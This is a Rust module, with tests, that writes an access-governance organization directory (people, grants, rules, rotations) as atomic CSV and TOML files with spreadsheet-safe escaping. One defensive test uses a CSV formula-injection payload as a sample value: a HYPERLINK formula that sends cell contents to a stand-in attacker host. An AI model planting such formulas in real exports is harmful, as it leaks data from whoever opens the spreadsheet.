//! Writing an [`Org`] out as an org directory (DESIGN.md) that reads back
//! to the same `Org`: for `gen`, and for `apply` replacing `grants.csv`.
//!
//! Every file is replaced atomically: written to a temporary file in the
//! same directory, given the old file's mode and owner, synced, renamed over
//! the old one, and the directory synced. A directory created here is 0700.
//! Shifts are written into `rotations.toml`; no `rotations/*.ics` is written.
//!
//! Every CSV cell is safe to open in a spreadsheet: one that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return (free text only: ids never
//! do) is written with a leading `'`, which the reader takes off again.

use super::GRANT_COLUMNS;
use crate::model::*;
use chrono::{Datelike, SecondsFormat, Timelike};
use serde::Serialize;
use std::collections::HashMap;
use std::fs::OpenOptions;
use std::io::{BufWriter, Write};
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};

/// Why an org directory, or its grants.csv, could not be written; the file
/// it would have replaced stays as it was.
#[derive(Debug, thiserror::Error)]
pub enum WriteError {
    /// A file or directory could not be created, written, synced or
    /// renamed: what was being done, and why not.
    #[error("{what}: {cause}")]
    File { what: String, cause: Cause },
    /// A TOML file of the directory could not be put in TOML.
    #[error("cannot write {file}: {error}")]
    Toml {
        file: &'static str,
        error: toml::ser::Error,
    },
    /// An entitlement whose area is not in the organization.
    #[error(
        "entitlement {entitlement} belongs to area {area}, which does not exist: areas.toml cannot hold it"
    )]
    NoArea { entitlement: String, area: String },
    /// A path that ends in no file name.
    #[error("{} names no file", .0.display())]
    NoFileName(std::path::PathBuf),
    /// The directory could not be created (with its cause).
    #[error("{0}")]
    Directory(String),
}

/// What failed beneath a [`WriteError::File`].
#[derive(Debug, thiserror::Error)]
pub enum Cause {
    #[error(transparent)]
    Io(#[from] std::io::Error),
    #[error(transparent)]
    Csv(#[from] csv::Error),
    /// A grant handed to [`write_org_streaming`] could not be made.
    #[error("{0}")]
    Grant(GrantError),
}

type Result<T, E = WriteError> = std::result::Result<T, E>;

/// `what` failed because of `cause`.
fn failed(what: String) -> impl FnOnce(Cause) -> WriteError {
    move |cause| WriteError::File { what, cause }
}

/// An I/O failure at `what`.
fn io(what: String) -> impl FnOnce(std::io::Error) -> WriteError {
    move |e| WriteError::File {
        what,
        cause: Cause::Io(e),
    }
}

fn create_dir(dir: &Path) -> Result<()> {
    crate::paths::create_private_dir(dir).map_err(|e| WriteError::Directory(format!("{e:#}")))
}

/// A time as the files hold it: RFC 3339 in UTC with `Z`, whole seconds
/// (`%Y-%m-%dT%H:%M:%SZ`). Written by hand: this runs a million times for a
/// large org, and chrono's formatter is several times slower.
fn time(t: Time) -> String {
    let year = t.year();
    if !(0..=9999).contains(&year) {
        return t.to_rfc3339_opts(SecondsFormat::Secs, true);
    }
    format!(
        "{year:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
        t.month(),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn optional_time(t: Option<Time>) -> String {
    t.map(time).unwrap_or_default()
}

/// Writes every file of the org directory format into `dir` (created if needed).
///
/// Entitlements are written under their area in `areas.toml`, so they read
/// back grouped by area in area order; an entitlement whose area is not in
/// `org.areas` cannot be written and is an error. Times keep whole seconds.
pub fn write_org(org: &Org, dir: &Path) -> Result<()> {
    create_dir(dir)?;
    replace_file(&dir.join("grants.csv"), |w| grants_csv(&org.grants, w))?;
    write_all_but_grants(org, dir)
}

/// [`write_org`] for an organization too large to hold its grants:
/// `make` builds the rest of it (returned), handing each grant to the
/// function it is given as it is made; grants.csv is written as they come.
pub fn write_org_streaming(
    dir: &Path,
    make: impl FnOnce(&mut dyn FnMut(&Grant) -> Result<(), GrantError>) -> Result<Org, GrantError>,
) -> Result<Org> {
    create_dir(dir)?;
    let mut org = Org::default();
    replace_file(&dir.join("grants.csv"), |out| {
        let mut w = csv::Writer::from_writer(out);
        w.write_record(GRANT_COLUMNS)?;
        let mut basis = String::new();
        org = make(&mut |g| Ok(grant_record(&mut w, g, &mut basis)?)).map_err(Cause::Grant)?;
        w.flush()?;
        Ok(())
    })?;
    write_all_but_grants(&org, dir)?;
    Ok(org)
}

/// Why a grant handed to [`write_org_streaming`] could not be written.
pub type GrantError = Box<dyn std::error::Error + Send + Sync>;

fn write_all_but_grants(org: &Org, dir: &Path) -> Result<()> {
    let areas = areas_toml(&org.areas, &org.entitlements)?;
    replace_file(&dir.join("people.csv"), |w| people_csv(&org.people, w))?;
    replace_text(&dir.join("teams.toml"), &teams_toml(&org.teams)?)?;
    replace_text(
        &dir.join("rotations.toml"),
        &rotations_toml(&org.rotations)?,
    )?;
    replace_file(&dir.join("trainings.csv"), |w| {
        trainings_csv(&org.trainings, w)
    })?;
    replace_text(&dir.join("areas.toml"), &areas)?;
    replace_text(
        &dir.join("delegations.toml"),
        &delegations_toml(&org.delegations)?,
    )?;
    replace_text(&dir.join("rules.toml"), &rules_toml(&org.rules)?)?;
    Ok(())
}

/// Replaces the grants file at `path` (normally `ORG/grants.csv`) atomically.
pub fn write_grants(grants: &[Grant], path: &Path) -> Result<()> {
    replace_file(path, |w| grants_csv(grants, w))
}

/// A cell as a spreadsheet may open it: text that a spreadsheet would take
/// for a formula gets a leading `'`.
fn cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// Writes a CSV table: the header, then one record per call of `rows`.
fn write_csv<W: Write>(
    out: W,
    header: &[&str],
    rows: impl FnOnce(&mut csv::Writer<W>) -> csv::Result<()>,
) -> Result<(), Cause> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(header)?;
    rows(&mut w)?;
    w.flush()?;
    Ok(())
}

fn people_csv(people: &[Person], out: &mut dyn Write) -> Result<(), Cause> {
    let header = ["id", "name", "email", "manager", "status", "title"];
    write_csv(out, &header, |w| {
        for p in people {
            w.write_record([
                cell(&p.id).as_ref(),
                cell(&p.name).as_ref(),
                cell(&p.email).as_ref(),
                cell(p.manager.as_deref().unwrap_or("")).as_ref(),
                p.status.as_str(),
                cell(p.title.as_deref().unwrap_or("")).as_ref(),
            ])?;
        }
        Ok(())
    })
}

fn trainings_csv(trainings: &[Training], out: &mut dyn Write) -> Result<(), Cause> {
    write_csv(out, &["person", "course", "completed", "expires"], |w| {
        for t in trainings {
            w.write_record([
                cell(&t.person).as_ref(),
                cell(&t.course).as_ref(),
                time(t.completed).as_str(),
                optional_time(t.expires).as_str(),
            ])?;
        }
        Ok(())
    })
}

fn grants_csv(grants: &[Grant], out: &mut dyn Write) -> Result<(), Cause> {
    write_csv(out, &GRANT_COLUMNS, |w| {
        let mut basis = String::new();
        for g in grants {
            grant_record(w, g, &mut basis)?;
        }
        Ok(())
    })
}

/// One grant's record; `basis` is a buffer for its basis column.
fn grant_record<W: Write>(
    w: &mut csv::Writer<W>,
    g: &Grant,
    basis: &mut String,
) -> csv::Result<()> {
    basis.clear();
    match &g.basis {
        Basis::Rule(id) => {
            basis.push_str("rule:");
            basis.push_str(id);
        }
        Basis::Manual => basis.push_str("manual"),
    }
    w.write_record([
        cell(&g.person).as_ref(),
        cell(&g.entitlement).as_ref(),
        cell(g.granted_by.as_deref().unwrap_or("")).as_ref(),
        time(g.granted_at).as_str(),
        basis.as_str(),
        optional_time(g.expires).as_str(),
    ])
}

#[derive(Serialize)]
struct TeamsFile<'a> {
    team: Vec<TeamRow<'a>>,
}

#[derive(Serialize)]
struct TeamRow<'a> {
    id: &'a str,
    name: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    parent: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    lead: Option<&'a str>,
    members: &'a [String],
}

fn teams_toml(teams: &[Team]) -> Result<String> {
    let file = TeamsFile {
        team: teams
            .iter()
            .map(|t| TeamRow {
                id: &t.id,
                name: &t.name,
                parent: t.parent.as_deref(),
                lead: t.lead.as_deref(),
                members: &t.members,
            })
            .collect(),
    };
    toml::to_string(&file).map_err(|error| WriteError::Toml {
        file: "teams.toml",
        error,
    })
}

#[derive(Serialize)]
struct RotationsFile<'a> {
    rotation: Vec<RotationRow<'a>>,
}

#[derive(Serialize)]
struct RotationRow<'a> {
    id: &'a str,
    name: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    team: Option<&'a str>,
    members: &'a [String],
    shift: Vec<ShiftRow<'a>>,
}

#[derive(Serialize)]
struct ShiftRow<'a> {
    person: &'a str,
    start: String,
    end: String,
}

fn rotations_toml(rotations: &[Rotation]) -> Result<String> {
    let file = RotationsFile {
        rotation: rotations
            .iter()
            .map(|r| RotationRow {
                id: &r.id,
                name: &r.name,
                team: r.team.as_deref(),
                members: &r.members,
                shift: r
                    .shifts
                    .iter()
                    .map(|s| ShiftRow {
                        person: &s.person,
                        start: time(s.start),
                        end: time(s.end),
                    })
                    .collect(),
            })
            .collect(),
    };
    toml::to_string(&file).map_err(|error| WriteError::Toml {
        file: "rotations.toml",
        error,
    })
}

#[derive(Serialize)]
struct AreasFile<'a> {
    area: Vec<AreaRow<'a>>,
}

#[derive(Serialize)]
struct AreaRow<'a> {
    id: &'a str,
    name: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    parent: Option<&'a str>,
    owner: &'a str,
    tags: &'a [String],
    notes: &'a str,
    review_days: i64,
    escalate_days: i64,
    #[serde(skip_serializing_if = "Option::is_none")]
    max_auto_changes: Option<i64>,
    entitlement: Vec<EntitlementRow<'a>>,
}

#[derive(Serialize)]
struct EntitlementRow<'a> {
    id: &'a str,
    name: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    upstream: Option<&'a str>,
}

fn areas_toml(areas: &[Area], entitlements: &[Entitlement]) -> Result<String> {
    let mut rows: Vec<AreaRow> = areas
        .iter()
        .map(|a| AreaRow {
            id: &a.id,
            name: &a.name,
            parent: a.parent.as_deref(),
            owner: &a.owner,
            tags: &a.tags,
            notes: &a.notes,
            review_days: a.review_days,
            escalate_days: a.escalate_days,
            max_auto_changes: a.max_auto_changes,
            entitlement: Vec::new(),
        })
        .collect();
    let index: HashMap<&str, usize> = areas
        .iter()
        .enumerate()
        .map(|(i, a)| (a.id.as_str(), i))
        .collect();
    for e in entitlements {
        let Some(&i) = index.get(e.area.as_str()) else {
            return Err(WriteError::NoArea {
                entitlement: e.id.clone(),
                area: e.area.clone(),
            });
        };
        rows[i].entitlement.push(EntitlementRow {
            id: &e.id,
            name: &e.name,
            upstream: e.upstream.as_deref(),
        });
    }
    toml::to_string(&AreasFile { area: rows }).map_err(|error| WriteError::Toml {
        file: "areas.toml",
        error,
    })
}

#[derive(Serialize)]
struct DelegationsFile<'a> {
    delegation: Vec<DelegationRow<'a>>,
}

#[derive(Serialize)]
struct DelegationRow<'a> {
    area: &'a str,
    to: &'a str,
    by: &'a str,
    since: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    until: Option<String>,
}

fn delegations_toml(delegations: &[Delegation]) -> Result<String> {
    let file = DelegationsFile {
        delegation: delegations
            .iter()
            .map(|d| DelegationRow {
                area: &d.area,
                to: &d.to,
                by: &d.by,
                since: time(d.since),
                until: d.until.map(time),
            })
            .collect(),
    };
    toml::to_string(&file).map_err(|error| WriteError::Toml {
        file: "delegations.toml",
        error,
    })
}

#[derive(Serialize)]
struct RulesFile<'a> {
    rule: Vec<RuleRow<'a>>,
}

#[derive(Serialize)]
struct RuleRow<'a> {
    id: &'a str,
    area: &'a str,
    author: &'a str,
    why: &'a str,
    grant: &'a [String],
    #[serde(skip_serializing_if = "Option::is_none")]
    team: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    rotation: Option<&'a str>,
    trained: &'a [String],
    only_while_oncall: bool,
    #[serde(skip_serializing_if = "is_suggest")]
    apply: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    lead: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    grace: Option<String>,
}

fn is_suggest(apply: &&'static str) -> bool {
    *apply == ApplyMode::Suggest.as_str()
}

fn rules_toml(rules: &[Rule]) -> Result<String> {
    let file = RulesFile {
        rule: rules
            .iter()
            .map(|r| {
                let (team, rotation) = match &r.audience {
                    Audience::Team(t) => (Some(t.as_str()), None),
                    Audience::Rotation(x) => (None, Some(x.as_str())),
                };
                RuleRow {
                    id: &r.id,
                    area: &r.area,
                    author: &r.author,
                    why: &r.why,
                    grant: &r.grant,
                    team,
                    rotation,
                    trained: &r.trained,
                    only_while_oncall: r.only_while_oncall,
                    apply: r.apply.as_str(),
                    lead: (r.lead_secs > 0).then(|| crate::policy::span(r.lead_secs)),
                    grace: (r.grace_secs > 0).then(|| crate::policy::span(r.grace_secs)),
                }
            })
            .collect(),
    };
    toml::to_string(&file).map_err(|error| WriteError::Toml {
        file: "rules.toml",
        error,
    })
}

/// Distinguishes temporary files of concurrent writers in one process.
static TEMP_COUNTER: AtomicU64 = AtomicU64::new(0);

fn replace_text(path: &Path, text: &str) -> Result<()> {
    replace_file(path, |w| Ok(w.write_all(text.as_bytes())?))
}

/// Replaces `path` atomically with what `fill` writes: a temporary file in
/// the same directory, with the mode and owner of the file it replaces,
/// synced, renamed over `path`; then the directory is synced.
fn replace_file(path: &Path, fill: impl FnOnce(&mut dyn Write) -> Result<(), Cause>) -> Result<()> {
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let name = path
        .file_name()
        .ok_or_else(|| WriteError::NoFileName(path.to_path_buf()))?
        .to_string_lossy();
    let tmp = dir.join(format!(
        ".{name}.{}.{}.tmp",
        std::process::id(),
        TEMP_COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    let written = (|| -> Result<()> {
        let file = OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&tmp)
            .map_err(io(format!("cannot create {}", tmp.display())))?;
        keep_mode_and_owner(path, &file, &tmp)?;
        let mut w = BufWriter::with_capacity(1 << 16, &file);
        fill(&mut w).map_err(failed(format!("cannot write {}", tmp.display())))?;
        w.flush()
            .map_err(io(format!("cannot write {}", tmp.display())))?;
        drop(w);
        file.sync_all()
            .map_err(io(format!("cannot sync {}", tmp.display())))?;
        std::fs::rename(&tmp, path).map_err(io(format!(
            "cannot rename {} to {}",
            tmp.display(),
            path.display()
        )))
    })();
    if let Err(e) = written {
        let _ = std::fs::remove_file(&tmp);
        return Err(e);
    }
    sync_dir(dir)
}

/// Gives `file` (the temporary `tmp`) the mode and owner of `path`, when
/// `path` exists: a rewritten grants.csv stays as private as it was.
#[cfg(unix)]
fn keep_mode_and_owner(path: &Path, file: &std::fs::File, tmp: &Path) -> Result<()> {
    use std::os::unix::fs::MetadataExt;
    let old = match std::fs::metadata(path) {
        Ok(m) => m,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(io(format!("cannot read {}", path.display()))(e)),
    };
    let new = file
        .metadata()
        .map_err(io(format!("cannot read {}", tmp.display())))?;
    if (old.uid(), old.gid()) != (new.uid(), new.gid()) {
        std::os::unix::fs::fchown(file, Some(old.uid()), Some(old.gid())).map_err(io(format!(
            "cannot give {} the owner of {} (uid {}, gid {})",
            tmp.display(),
            path.display(),
            old.uid(),
            old.gid()
        )))?;
    }
    file.set_permissions(old.permissions()).map_err(io(format!(
        "cannot give {} the mode of {}",
        tmp.display(),
        path.display()
    )))
}

#[cfg(not(unix))]
fn keep_mode_and_owner(path: &Path, file: &std::fs::File, _tmp: &Path) -> Result<()> {
    if let Ok(m) = std::fs::metadata(path) {
        file.set_permissions(m.permissions()).map_err(io(format!(
            "cannot give {} the mode of {}",
            _tmp.display(),
            path.display()
        )))?;
    }
    Ok(())
}

#[cfg(unix)]
fn sync_dir(dir: &Path) -> Result<()> {
    std::fs::File::open(dir)
        .and_then(|d| d.sync_all())
        .map_err(io(format!("cannot sync directory {}", dir.display())))
}

#[cfg(not(unix))]
fn sync_dir(_dir: &Path) -> Result<()> {
    // Directories cannot be opened for syncing here; the rename is what we have.
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sources::files::read_org;

    const TIME_FORMAT: &str = "%Y-%m-%dT%H:%M:%SZ";

    fn t(s: &str) -> Time {
        s.parse().unwrap()
    }

    fn small_org() -> Org {
        let person = |id: &str, manager: Option<&str>, status| Person {
            id: id.into(),
            name: format!("{} Example, Jr.", id.to_uppercase()),
            email: format!("{id}@example.com"),
            manager: manager.map(String::from),
            status,
            ..Default::default()
        };
        Org {
            people: vec![
                person("ana", None, Status::Active),
                person("ben", Some("ana"), Status::Active),
                person("cy", Some("ana"), Status::Left),
            ],
            teams: vec![
                Team {
                    id: "eng".into(),
                    name: "Engineering".into(),
                    parent: None,
                    lead: Some("ana".into()),
                    members: vec!["ana".into()],
                },
                Team {
                    id: "db".into(),
                    name: "Databases".into(),
                    parent: Some("eng".into()),
                    lead: None,
                    members: vec!["ben".into(), "cy".into()],
                },
            ],
            rotations: vec![
                Rotation {
                    id: "db-primary".into(),
                    name: "DB primary".into(),
                    team: Some("db".into()),
                    members: vec!["ben".into()],
                    shifts: vec![Shift {
                        person: "ben".into(),
                        start: t("2026-03-02T09:00:00Z"),
                        end: t("2026-03-09T09:00:00Z"),
                    }],
                },
                Rotation {
                    id: "empty".into(),
                    name: "Nobody yet".into(),
                    team: None,
                    members: vec![],
                    shifts: vec![],
                },
            ],
            trainings: vec![
                Training {
                    person: "ben".into(),
                    course: "hipaa-101".into(),
                    completed: t("2025-06-01T10:00:00Z"),
                    expires: Some(t("2026-06-01T10:00:00Z")),
                },
                Training {
                    person: "ana".into(),
                    course: "sec-basics".into(),
                    completed: t("2025-01-01T00:00:00Z"),
                    expires: None,
                },
            ],
            areas: vec![
                Area {
                    id: "root".into(),
                    name: "Everything".into(),
                    parent: None,
                    owner: "ana".into(),
                    tags: vec![],
                    notes: String::new(),
                    review_days: DEFAULT_REVIEW_DAYS,
                    escalate_days: DEFAULT_ESCALATE_DAYS,
                    max_auto_changes: None,
                },
                Area {
                    id: "db".into(),
                    name: "Patient DB".into(),
                    parent: Some("root".into()),
                    owner: "ben".into(),
                    tags: vec!["hipaa".into(), "pii".into()],
                    notes: "Contains \"patient\" records;\nnever export.".into(),
                    review_days: 30,
                    escalate_days: 7,
                    max_auto_changes: Some(5),
                },
            ],
            entitlements: vec![
                Entitlement {
                    id: "db:read".into(),
                    area: "db".into(),
                    name: "Read".into(),
                    upstream: Some("scim:group/db-read".into()),
                },
                Entitlement {
                    id: "db:admin".into(),
                    area: "db".into(),
                    name: "Admin, full".into(),
                    upstream: None,
                },
            ],
            grants: vec![
                Grant {
                    person: "ben".into(),
                    entitlement: "db:read".into(),
                    granted_by: None,
                    granted_at: t("2025-12-01T08:30:00Z"),
                    basis: Basis::Manual,
                    expires: Some(t("2026-04-01T00:00:00Z")),
                    through: None,
                },
                Grant {
                    person: "cy".into(),
                    entitlement: "db:admin".into(),
                    granted_by: Some("ana".into()),
                    granted_at: t("2025-11-01T00:00:00Z"),
                    basis: Basis::Rule("db-oncall".into()),
                    expires: None,
                    through: None,
                },
            ],
            delegations: vec![Delegation {
                area: "db".into(),
                to: "ben".into(),
                by: "ana".into(),
                since: t("2026-01-01T00:00:00Z"),
                until: Some(t("2026-07-01T00:00:00Z")),
            }],
            rules: vec![
                Rule {
                    id: "db-oncall".into(),
                    area: "db".into(),
                    author: "ben".into(),
                    why: "Oncall needs admin to fail over".into(),
                    grant: vec!["db:admin".into()],
                    audience: Audience::Rotation("db-primary".into()),
                    trained: vec!["hipaa-101".into()],
                    only_while_oncall: true,
                    apply: ApplyMode::Auto,
                    lead_secs: 1800,
                    grace_secs: 900,
                },
                Rule {
                    id: "eng-read".into(),
                    area: "db".into(),
                    author: "ana".into(),
                    why: String::new(),
                    grant: vec!["db:read".into()],
                    audience: Audience::Team("eng".into()),
                    trained: vec![],
                    only_while_oncall: false,
                    apply: ApplyMode::Suggest,
                    lead_secs: 0,
                    grace_secs: 0,
                },
            ],
        }
    }

    #[test]
    fn written_org_reads_back_the_same() {
        let dir = tempfile::tempdir().unwrap();
        let org_dir = dir.path().join("org");
        let org = small_org();
        write_org(&org, &org_dir).unwrap();
        let back = read_org(&org_dir).unwrap();
        assert_eq!(back, org);
        // Written again over itself: same content, no temporary files left.
        write_org(&back, &org_dir).unwrap();
        assert_eq!(read_org(&org_dir).unwrap(), org);
        let leftovers: Vec<_> = std::fs::read_dir(&org_dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".tmp"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }

    #[test]
    fn files_use_the_documented_shapes() {
        let dir = tempfile::tempdir().unwrap();
        write_org(&small_org(), dir.path()).unwrap();
        let read = |f: &str| std::fs::read_to_string(dir.path().join(f)).unwrap();
        let grants = read("grants.csv");
        let mut lines = grants.lines();
        assert_eq!(
            lines.next(),
            Some("person,entitlement,granted_by,granted_at,basis,expires")
        );
        assert_eq!(
            lines.next(),
            Some("ben,db:read,,2025-12-01T08:30:00Z,manual,2026-04-01T00:00:00Z")
        );
        assert_eq!(
            lines.next(),
            Some("cy,db:admin,ana,2025-11-01T00:00:00Z,rule:db-oncall,")
        );
        let people = read("people.csv");
        assert!(people.starts_with("id,name,email,manager,status,title\n"));
        assert!(people.contains("ana,\"ANA Example, Jr.\",ana@example.com,,active,\n"));
        assert!(people.contains("cy,\"CY Example, Jr.\",cy@example.com,ana,left,\n"));
        assert!(read("trainings.csv").contains("ana,sec-basics,2025-01-01T00:00:00Z,\n"));
        let rules = read("rules.toml");
        assert!(rules.contains("[[rule]]"), "{rules}");
        assert!(rules.contains("rotation = \"db-primary\""), "{rules}");
        assert!(rules.contains("team = \"eng\""), "{rules}");
        assert!(rules.contains("only_while_oncall = true"), "{rules}");
        let rotations = read("rotations.toml");
        assert!(rotations.contains("[[rotation.shift]]"), "{rotations}");
        assert!(
            rotations.contains("start = \"2026-03-02T09:00:00Z\""),
            "{rotations}"
        );
        let areas = read("areas.toml");
        assert!(areas.contains("[[area.entitlement]]"), "{areas}");
        assert!(areas.contains("tags = [\"hipaa\", \"pii\"]"), "{areas}");
        let teams = read("teams.toml");
        assert!(!teams.contains("lead = \"\""), "{teams}");
        assert!(read("delegations.toml").contains("until = \"2026-07-01T00:00:00Z\""));
    }

    #[test]
    fn times_are_utc_whole_seconds_with_z() {
        assert_eq!(
            time(t("2026-03-02T09:05:07.999+01:00")),
            "2026-03-02T08:05:07Z"
        );
        assert_eq!(time(t("0999-12-31T23:59:59Z")), "0999-12-31T23:59:59Z");
        for s in [
            "2026-03-02T12:00:00Z",
            "2024-02-29T00:00:01Z",
            "1970-01-01T00:00:00Z",
        ] {
            assert_eq!(time(t(s)), t(s).format(TIME_FORMAT).to_string());
        }
        assert_eq!(optional_time(None), "");
    }

    #[test]
    fn write_grants_replaces_only_the_grants_file() {
        let dir = tempfile::tempdir().unwrap();
        let mut org = small_org();
        write_org(&org, dir.path()).unwrap();
        let people_before = std::fs::read(dir.path().join("people.csv")).unwrap();
        org.grants.remove(0);
        write_grants(&org.grants, &dir.path().join("grants.csv")).unwrap();
        let back = read_org(dir.path()).unwrap();
        assert_eq!(back.grants, org.grants);
        assert_eq!(
            std::fs::read(dir.path().join("people.csv")).unwrap(),
            people_before
        );
        write_grants(&[], &dir.path().join("grants.csv")).unwrap();
        assert!(read_org(dir.path()).unwrap().grants.is_empty());
    }

    #[test]
    fn entitlement_without_its_area_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let mut org = small_org();
        org.entitlements[0].area = "nowhere".into();
        let e = write_org(&org, dir.path()).unwrap_err();
        assert!(
            matches!(&e, WriteError::NoArea { area, .. } if area == "nowhere"),
            "{e:?}"
        );
        assert!(
            e.to_string().contains("area nowhere, which does not exist"),
            "{e}"
        );
    }

    #[cfg(unix)]
    #[test]
    fn a_rewritten_file_keeps_its_mode_and_new_directories_are_private() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let org_dir = dir.path().join("a").join("org");
        write_org(&small_org(), &org_dir).unwrap();
        for d in [dir.path().join("a"), org_dir.clone()] {
            let mode = std::fs::metadata(&d).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o700, "{}", d.display());
        }
        let grants = org_dir.join("grants.csv");
        for wanted in [0o600, 0o640] {
            std::fs::set_permissions(&grants, std::fs::Permissions::from_mode(wanted)).unwrap();
            write_grants(&small_org().grants, &grants).unwrap();
            let mode = std::fs::metadata(&grants).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, wanted);
        }
    }

    #[test]
    fn formula_like_text_is_written_spreadsheet_safe_and_reads_back() {
        let dir = tempfile::tempdir().unwrap();
        let mut org = small_org();
        org.people[0].name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")".into();
        org.people[1].name = "+1 555".into();
        org.people[2].email = "@cy".into();
        write_org(&org, dir.path()).unwrap();
        let text = std::fs::read_to_string(dir.path().join("people.csv")).unwrap();
        for line in text.lines() {
            for field in line.split(',') {
                let field = field.trim_start_matches('"');
                assert!(!field.starts_with(['=', '+', '-', '@']), "{line}");
            }
        }
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert_eq!(read_org(dir.path()).unwrap(), org);
    }

    #[test]
    fn write_grants_into_a_missing_directory_fails_cleanly() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("missing").join("grants.csv");
        let e = write_grants(&[], &path).unwrap_err();
        assert!(
            matches!(&e, WriteError::File { cause: Cause::Io(_), what } if what.starts_with("cannot create")),
            "{e:?}"
        );
        assert!(!path.exists());
    }
}
